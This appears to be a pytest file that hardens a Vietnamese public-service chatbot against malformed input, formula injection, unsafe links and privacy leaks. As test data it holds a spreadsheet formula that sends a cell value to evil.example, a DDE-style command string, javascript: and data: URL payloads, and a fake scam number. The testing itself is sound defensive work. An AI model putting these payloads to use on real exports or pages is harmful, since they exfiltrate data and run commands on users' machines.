"""Bad input, privacy and content defects of issue 14 (D7-D15), each reproduced through the real
servers, stores and CLI: 4xx and a polite reply instead of a 500, masked numbers at rest, formula-safe
exports, the allow-list on every save, a clear message for a damaged index."""

from __future__ import annotations

import csv
import datetime as dt
import json
import logging
import os
import shutil
import socket
import subprocess
import sys

import httpx
import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select
from starlette.applications import Starlette

from bot import messages
from bot.relay import drafts
from bot.spreadsheet import csv_value
from bot.faq.store import FaqStore, ImportRejected, parse_row
from bot.admin.reports import build_report, parse_period, write_report
from bot.areas import load_areas
from bot.channels.inbound import parse_json
from bot.conversation.service import PROCESSED_KEPT, ConversationService
from bot.knowledge.allowlist import safe_ref
from bot.knowledge.loaders import load_faq
from bot.knowledge.models import KnowledgeError
from bot.privacy import mask
from bot.relay.models import RelayMessage
from bot.storage.models import MAX_ID, Conversation, Escalation, ProcessedMessage, QuizAnswer, parse_id
from tests.conftest import KNOWLEDGE, ROOT
from tests.chat_helpers import escalate, give, send
from tests.pg import database_fixture
from tests.test_webadmin import account, csrf_of, faq_form, login, session_csrf
from tests.web_server import QUIZ, free_port, serve

AREAS = load_areas(KNOWLEDGE / "areas.yaml")
NESTED = b'{"question": ' + b"[" * 1000 + b"]" * 1000 + b"}"
BUTTONS = ["fb:²:1", "rq:²:0", "esc:³", "qa:²:0", "qa:1:¹", "fb:99999999999999999999:1", "esc:99999999999999999999",
           "qa:99999999999999999999:0", "fb:" + "9" * 5000, "esc:2147483648", "rq:2147483648:0", "rq:1:99999999999", "esc:-1"]

db = database_fixture("bad_input_test")


@pytest.fixture
def service(small_engine, db):
    return ConversationService(small_engine, db, QUIZ, AREAS, flood_limit=1000)


@pytest.fixture
def base(service):
    with serve(service, web_client_max_requests=100_000) as url:
        yield url


# -- D9: button data that reads as digits, and ids beyond an INTEGER --------------------------------


def test_button_data_with_odd_digits_or_huge_ids_gets_a_polite_reply(base, caplog):
    with httpx.Client(base_url=base, timeout=30) as client:
        client.post("/api/chat", json={"text": "kich hoat vneid muc 2 o dau"})  # a real log row to aim at
        for data in BUTTONS:
            r = client.post("/api/chat", json={"button": data})
            assert r.status_code == 200, (data, r.text)
            assert r.json()["messages"][0]["text"] in (messages.HELP, messages.ESCALATE_ASK), data
    assert not [r for r in caplog.records if r.levelno >= logging.ERROR]


def test_one_parser_for_row_ids():
    assert [parse_id(x) for x in ("12", "#12", " 7 ", str(MAX_ID))] == [12, 12, 7, MAX_ID]
    for bad in ("²", "¹2", "0", "-1", "", "1e3", "١٢", str(MAX_ID + 1), "9" * 5000, "12a", "+5"):
        assert parse_id(bad) is None, bad


def test_draft_ids_use_the_same_parser(db):
    with db.session() as s:
        for bad in ("²", "99999999999999999999", "2147483648", "#³"):
            assert drafts.get_waiting(s, bad) is None and drafts.decide(s, bad, True, "cli:test") is None


# -- D10: deeply nested JSON ------------------------------------------------------------------------


def test_deeply_nested_json_is_a_400_without_a_traceback(base, caplog):
    for path in ("/api/ask", "/api/chat"):
        r = httpx.post(base + path, content=NESTED, headers={"Content-Type": "application/json"}, timeout=30)
        assert r.status_code == 400 and r.json()["message"] == messages.WEB_BAD_REQUEST and "nested" in r.json()["error"]
        shallow = b'{"text": ' + b"[" * 40 + b"]" * 40 + b"}"
        assert httpx.post(base + path, content=shallow, headers={"Content-Type": "application/json"}, timeout=30).status_code == 400
    assert not [r for r in caplog.records if r.levelno >= logging.ERROR]


def test_the_json_parser_refuses_what_is_not_a_reasonable_document():
    for body in (NESTED, b"[" * 100_000, b"\xff", b"{", b'{"a": ' + b"{" * 33 + b"}" * 33 + b"}"):
        with pytest.raises(ValueError):
            parse_json(body)
    assert parse_json(b'{"a": [{"b": 1}]}') == {"a": [{"b": 1}]}


def test_the_telegram_webhook_answers_400_to_nested_json(service, caplog):
    from bot.channels.telegram import Channel
    from bot.config import Settings
    from tests.fake_telegram import FakeTelegram
    from tests.test_telegram import BotThread

    fake = FakeTelegram().start()
    channel = Channel(service, Settings(_env_file=None, telegram_bot_token=fake.token, telegram_api_base_url=fake.url,
                                        telegram_webhook_url="https://bot.example.vn/tg", telegram_secret_token="secret_123"))
    runner = BotThread(channel, Starlette(routes=channel.routes())).start()
    try:
        nested = b'{"update_id": 5, "message": ' + b"[" * 1000 + b"]" * 1000 + b"}"
        r = httpx.post(runner.web_url + "/tg", content=nested, headers={"X-Telegram-Bot-Api-Secret-Token": "secret_123"})
        assert r.status_code == 400
    finally:
        runner.close()
        fake.close()
    assert not [r for r in caplog.records if r.levelno >= logging.ERROR]


def test_the_zalo_webhook_answers_400_to_nested_json(service, caplog):
    from tests.fake_zalo import FakeZalo
    from tests.test_zalo import TOKEN, Running, make_channel

    fake = FakeZalo(TOKEN, max_wait=0.2)
    sock = socket.socket()
    sock.bind(("127.0.0.1", 0))
    url = f"http://127.0.0.1:{sock.getsockname()[1]}/zalo/webhook"
    running = Running(make_channel(service, fake.url, zalo_webhook_url=url, zalo_secret_token="webhook-secret-123"), sock)
    try:
        fake.wait_for(lambda: fake.webhook)
        r = httpx.post(url, content=b"[" * 1000 + b"]" * 1000, headers={"X-Bot-Api-Secret-Token": "webhook-secret-123"}, timeout=10)
        assert r.status_code == 400
    finally:
        running.close()
        fake.close()
    assert not [r for r in caplog.records if r.levelno >= logging.ERROR]


# -- D14: a web quiz poll belongs to the chat it was sent to ------------------------------------------


def test_a_visitor_cannot_answer_another_visitors_poll(base, db):
    with httpx.Client(base_url=base, timeout=30) as a, httpx.Client(base_url=base, timeout=30) as b:
        quiz = a.post("/api/chat", json={"text": "/quiz"}).json()["messages"][0]
        wrong = next(btn["data"] for row in quiz["buttons"] for btn in row if not btn["data"].endswith(f":{QUIZ[0].answer}"))
        b.post("/api/chat", json={"text": "/start"})
        stolen = b.post("/api/chat", json={"button": wrong}).json()["messages"][0]["text"]
        assert stolen == messages.HELP
        assert b.post("/api/chat", json={"text": "/diem"}).json()["messages"][0]["text"] == messages.SCORE_NONE
        own = a.post("/api/chat", json={"button": wrong}).json()["messages"][0]["text"]
        assert own.startswith("❌")
    with db.session() as s:
        assert s.scalar(select(func.count(QuizAnswer.id))) == 1


# -- D8: one masking, before storage ------------------------------------------------------------------


@pytest.mark.parametrize("number", ["0912/345/678", "0912,345,678", "0912_345_678", "(091) 234 5678", "+84 912 345 678",
                                    "0912 345 678", "0912.345.678", "0912-345-678", "0912\u00a0345\u00a0678", "001 090 012 390"])
def test_personal_numbers_are_masked_whatever_the_separators(number):
    masked = mask(f"số của tôi {number} nhé")
    assert not any(group in masked for group in ("912", "091", "345", "234", "090")), masked
    assert masked.startswith("số của tôi ••••") and masked.endswith(" nhé")


def test_dates_and_document_numbers_are_not_masked():
    text = "Quyết định 1169/QĐ-TTg ngày 16/6/2025, Nghị định 69/2024/NĐ-CP, gọi 113"
    assert mask(text) == text


def test_questions_escalations_and_follow_ups_are_stored_masked(service, db):
    give(db, "team-1", "team", "dien-bien")
    send(service, "citizen-9", text="số tôi 0912/345/678 hỏi vneid")
    esc_id, _ = escalate(service, "citizen-9", "gọi tôi 0912_345_678 nhé", area="dien bien")
    send(service, "team-1", "traloi", f"{esc_id} Bác ra công an xã nhé")
    send(service, "citizen-9", text="cảm ơn, số khác 0987,654,321")  # a follow-up to the answer
    with db.session() as s:
        texts = [*s.scalars(select(Conversation.question)), *s.scalars(select(Escalation.question)),
                 *s.scalars(select(RelayMessage.text).where(RelayMessage.author == "citizen"))]
    assert len(texts) >= 3
    assert all("345" not in t and "654" not in t for t in texts), texts


def test_old_processed_message_keys_are_pruned(service, db):
    with db.session() as s:
        s.add(ProcessedMessage(key="telegram:1:old", created_at=dt.datetime.now(dt.timezone.utc) - PROCESSED_KEPT - dt.timedelta(hours=1)))
        s.add(ProcessedMessage(key="telegram:1:recent"))
    send(service, "citizen-5", "start")
    with db.session() as s:
        keys = set(s.scalars(select(ProcessedMessage.key)))
    assert "telegram:1:old" not in keys and "telegram:1:recent" in keys and len(keys) == 2


# -- D7: formula injection in exports ----------------------------------------------------------------


def test_report_cells_that_look_like_formulas_stay_text(service, db, tmp_path):
    evil = ['=HYPERLINK("http://evil.example/?q="&A1,"Xem chi tiet")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1 cmd", "-2+3 abc"]
    for i, text in enumerate(evil):
        send(service, f"evil-{i}", text=text)
    period = parse_period(dt.datetime.now(dt.timezone(dt.timedelta(hours=7))).strftime("%Y-%m"))
    report = build_report(db, period)
    xlsx = write_report(report, tmp_path / "x", "xlsx")[0]
    cells = [c for sheet in load_workbook(xlsx) for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert any(v.startswith("=HYPERLINK") for v in texts)  # kept as written, as text
    gaps = next(p for p in write_report(report, tmp_path / "c", "csv") if p.name.endswith("-gaps.csv"))
    column = [row[0] for row in csv.reader(gaps.open(encoding="utf-8-sig"))][1:]
    assert column and all(not v.startswith(("=", "+", "-", "@")) for v in column)
    assert {csv_value(v) for v in column} >= {e[:300] for e in evil if e[0] in "=@"}


def test_faq_export_is_formula_safe_and_round_trips(kb, tmp_path):
    from bot.storage.db import Database

    store = FaqStore(kb, Database(f"sqlite:///{tmp_path / 'f.db'}"))
    entry = {**store.entries()[0], "question": "=1+2 là gì?"}
    store.apply({entry["id"]: entry}, "cli:test", "edit")
    for suffix in (".csv", ".xlsx"):
        path = tmp_path / f"faq{suffix}"
        store.export(path)
        if suffix == ".csv":
            assert "'=1+2 là gì?" in path.read_text(encoding="utf-8-sig")
        else:
            assert not [c for row in load_workbook(path).active.iter_rows() for c in row if c.data_type == "f"]
        assert store.validate(path) == {e["id"]: e for e in store.entries()}


# -- D12: the allow-list and source links, on every save ----------------------------------------------


def test_an_answer_with_an_unlisted_number_or_address_is_refused_by_every_path(kb, tmp_path):
    from bot.storage.db import Database

    store = FaqStore(kb, Database(f"sqlite:///{tmp_path / 'f.db'}"))
    before = {p.name: p.read_bytes() for p in (kb / "faq").iterdir()}
    scam = {**store.entries()[0], "answer": "Gọi ngay 0999 888 777 hoặc vào http://vneid-hotro.example.com để được hỗ trợ."}
    with pytest.raises(ImportRejected) as refused:  # the web admin, /themfaq and rollback save through apply
        store.apply({scam["id"]: scam}, "cli:test", "edit")
    (error,) = refused.value.errors
    assert error.field == "allowlist" and "0999888777" in error.message and "vneid-hotro.example.com" in error.message
    assert "danh sách chính thức" in error.message
    path = tmp_path / "import.yaml"
    path.write_text(json.dumps([scam], ensure_ascii=False), encoding="utf-8")
    with pytest.raises(ImportRejected):  # `faq import`
        store.import_file(path, "cli:test")
    assert {p.name: p.read_bytes() for p in (kb / "faq").iterdir()} == before
    listed = {**scam, "answer": "Gọi tổng đài 1900 0368 hoặc vào https://baohiemxahoi.gov.vn để được hỗ trợ."}
    assert store.apply({listed["id"]: listed}, "cli:test", "edit").version is not None


@pytest.mark.parametrize("url", ["javascript:alert(5)", "JavaScript:alert(1)", "data:text/html,x", "vbscript:x", "//evil.example/x",
                                 "http:evil", "java\nscript:alert(1)"])
def test_a_source_link_must_be_http_or_relative(url, kb):
    assert not safe_ref(url)
    _, problems = parse_row({**faq_form(), "source": "Bộ Công an", "source_url": url, "updated": "2026-12-01",
                             "alternatives": "a b c\nd e f"}, 0)
    assert [p.field for p in problems] == ["source_url"]
    bad = kb / "faq" / "bad.yaml"
    bad.write_text(f"- id: x-y\n  topic: vneid\n  question: Câu hỏi?\n  alternatives: [a, b]\n  answer: Trả lời.\n"
                   f"  source: {{title: Bộ Công an, url: {json.dumps(url)}}}\n  updated: 2026-12-01\n"
                   f"  checked: 2026-12-01\n  review_by: 2027-06-01\n", encoding="utf-8")
    with pytest.raises(KnowledgeError, match="source url"):
        load_faq(bad, kb)


def test_safe_links_pass():
    assert all(safe_ref(u) for u in ("", "https://dichvucong.gov.vn/p/home", "http://vneid.gov.vn", "/huong-dan", "docs/a.md#b"))


def test_the_web_admin_refuses_an_unlisted_number_in_vietnamese(service, kb, db):
    account(db, "alice")
    with serve(service, knowledge_dir=kb) as site:
        client, _ = login(site, "alice")
        before = (kb / "faq" / "small.yaml").read_bytes()
        r = client.post("/admin/faq/save", data={**faq_form(answer="Gọi ngay 0999 888 777 để được hỗ trợ."), "csrf": session_csrf(client)})
        assert r.status_code == 422 and "0999888777" in r.text and "danh sách chính thức" in r.text
        assert (kb / "faq" / "small.yaml").read_bytes() == before


# -- D11: admin 500s ------------------------------------------------------------------------------------


def test_admin_ids_periods_and_drafts_that_cannot_be_are_4xx_and_nothing_is_saved(service, kb, db):
    account(db, "alice")
    with serve(service, knowledge_dir=kb) as site:
        client, _ = login(site, "alice")
        csrf = session_csrf(client)
        for path in ("/admin/history/rollback/99999999999999999999", "/admin/history/rollback/²", "/admin/drafts/reject/99999999999999999999"):
            assert client.post(path, data={"csrf": csrf}).status_code in (200, 404), path
        assert client.get("/admin/faq/new", params={"draft": "²"}).status_code == 404
        for period in ("0001-01", "9999-12", "0000"):
            assert client.get("/admin/report", params={"period": period}).status_code == 422
            assert client.get("/admin/report/file", params={"period": period, "kind": "xlsx"}).status_code == 404
        before = (kb / "faq").iterdir()
        before = {p.name: p.read_bytes() for p in before}
        form = faq_form("vneid-moi-probe", mode="new", topic="vneid", question="Câu hỏi thử mới?", draft="²")
        r = client.post("/admin/faq/save", data={**form, "csrf": csrf})
        assert r.status_code == 422 and "không còn chờ duyệt" in r.text
        assert {p.name: p.read_bytes() for p in (kb / "faq").iterdir()} == before  # refused before any write
        assert "vneid-moi-probe" not in {e["id"] for e in FaqStore(kb, db).entries()}


# -- D15: the login limit and X-Forwarded-For -----------------------------------------------------------


def test_a_changing_forwarded_for_from_loopback_does_not_dodge_the_login_limit(service, kb, db, monkeypatch):
    monkeypatch.setattr("bot.webadmin.pages.LOGIN_ATTEMPTS", 3)
    with serve(service, knowledge_dir=kb) as site:
        statuses = []
        for i in range(6):
            with httpx.Client(base_url=site, timeout=30, headers={"X-Forwarded-For": f"198.51.100.{i}"}) as client:
                page = client.get("/admin/login")
                statuses.append(client.post("/admin/login", data={"csrf": csrf_of(page.text), "name": f"n{i}", "password": "x" * 12}).status_code)
    assert statuses == [401, 401, 401, 429, 429, 429]


# -- D13: a damaged index manifest ----------------------------------------------------------------------


@pytest.mark.parametrize("damage", ["[1, 2]", "no-embedder", "no-dimension", "no-content-hash", "dimension-text", "{not json"])
def test_a_damaged_manifest_gives_an_operator_message_and_exit_2(small_index, small_kb, tmp_path, damage):
    index = shutil.copytree(small_index, tmp_path / "index")
    manifest = json.loads((index / "manifest.json").read_text())
    text = {"[1, 2]": "[1, 2]", "{not json": "{not json",
            "no-embedder": json.dumps({k: v for k, v in manifest.items() if k != "embedder"}),
            "no-dimension": json.dumps({k: v for k, v in manifest.items() if k != "dimension"}),
            "no-content-hash": json.dumps({k: v for k, v in manifest.items() if k != "content_hash"}),
            "dimension-text": json.dumps({**manifest, "dimension": "384"})}[damage]
    (index / "manifest.json").write_text(text)
    env = {**os.environ, "INDEX_DIR": str(index), "KNOWLEDGE_DIR": str(small_kb), "DATABASE_URL": f"sqlite:///{tmp_path / 'b.db'}",
           "WEB_PORT": str(free_port()), "TELEGRAM_BOT_TOKEN": "", "ZALO_BOT_TOKEN": "", "SCHEDULER_ENABLED": "false"}
    commands = [["ask", "--json", "vneid muc 2"]] + ([["run", "--channel", "web"]] if damage == "no-content-hash" else [])
    for args in commands:
        done = subprocess.run([sys.executable, "-m", "bot", *args], cwd=ROOT, env=env, capture_output=True, text=True, timeout=300)
        assert done.returncode == 2, (args, done.stderr[-2000:])
        assert "python -m bot index build" in done.stderr and "Traceback" not in done.stderr, done.stderr[-2000:]
